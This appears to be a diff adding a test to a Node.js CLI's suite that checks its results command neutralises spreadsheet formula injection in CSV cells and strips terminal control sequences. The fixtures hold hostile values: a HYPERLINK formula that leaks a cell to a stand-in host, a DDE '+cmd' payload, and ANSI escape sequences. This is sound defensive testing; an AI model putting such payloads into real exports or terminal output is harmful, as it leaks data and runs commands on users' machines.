@@ -65,6 +65,38 @@ describe('the reelflow command', () => {
     assert.match(bad.stderr, /--format must be table, json or csv/);
   });
 
+  it('results make gateway text inert: no formulas in CSV cells, no control sequences on the terminal, long ids cut in tables only', async () => {
+    const dir = tempDir();
+    const job = writeJob(dir, { name: 'hostile', baseUrls: sim.urls, items: [{ id: 'one', prompt: 'p1' }, { id: 'two', prompt: 'p2' }, { id: 'three', prompt: 'p3' }] });
+    const { mkdirSync } = await import('node:fs');
+    mkdirSync(join(dir, 'out'));
+    const longId = `video_${'x'.repeat(124)}`;
+    const rows = [
+      manifestRow(1, { key: 'one', task_id: '=HYPERLINK("http://evil.example/?"&A1,"open")', file: '001-one.mp4', bytes: 10, sha256: 'ab'.repeat(32) }),
+      manifestRow(2, { key: 'two', task_id: longId, state: 'failed', error: { kind: 'render_failed', message: '+cmd|\' /C calc\'!A0 \u001b]0;pwned\u0007\u001b[2J\u001b[1Aafter' } }),
+      manifestRow(3, { key: 'three', state: 'failed', error: { kind: 'render_failed', message: '@SUM(1+1)\u009b31m' } }),
+    ];
+    writeFileSync(join(dir, 'out', 'manifest.jsonl'), rows.map((r) => JSON.stringify(r)).join('\n') + '\n');
+    const csv = await runCli(['results', job, '--format', 'csv'], { env });
+    assert.equal(csv.code, 0, csv.stderr);
+    const lines = csv.stdout.trim().split('\n');
+    assert.ok(lines[1]!.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`), lines[1]);
+    assert.ok(lines[2]!.includes(`render_failed: +cmd|' /C calc'!A0 after`), lines[2]);
+    assert.ok(lines[2]!.includes(longId), 'CSV keeps long ids whole');
+    assert.ok(lines[3]!.includes(`render_failed: @SUM(1+1)`), lines[3]);
+    // A cell that begins with a formula character is prefixed, wherever it stands in the row.
+    for (const line of lines.slice(1)) for (const cell of line.split(',')) assert.ok(!/^"?[=+@-]/.test(cell), `formula cell: ${cell}`);
+    const table = await runCli(['results', job], { env });
+    assert.equal(table.code, 0, table.stderr);
+    for (const output of [csv.stdout, table.stdout]) {
+      // eslint-disable-next-line no-control-regex -- looking for control characters
+      assert.ok(!/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(output), `control characters in ${JSON.stringify(output)}`);
+    }
+    assert.match(table.stdout, /after/);
+    assert.ok(!table.stdout.includes(longId), 'the table cuts a long id');
+    assert.match(table.stdout, /video_x+…/);
+  });
+
   it('an unreachable Temporal service is exit 3 saying what was tried and how to fix it', async () => {
     const result = await runCli(['status'], { env: { ...env, TEMPORAL_ADDRESS: '127.0.0.1:1' } });
     assert.equal(result.code, 3, result.stderr);
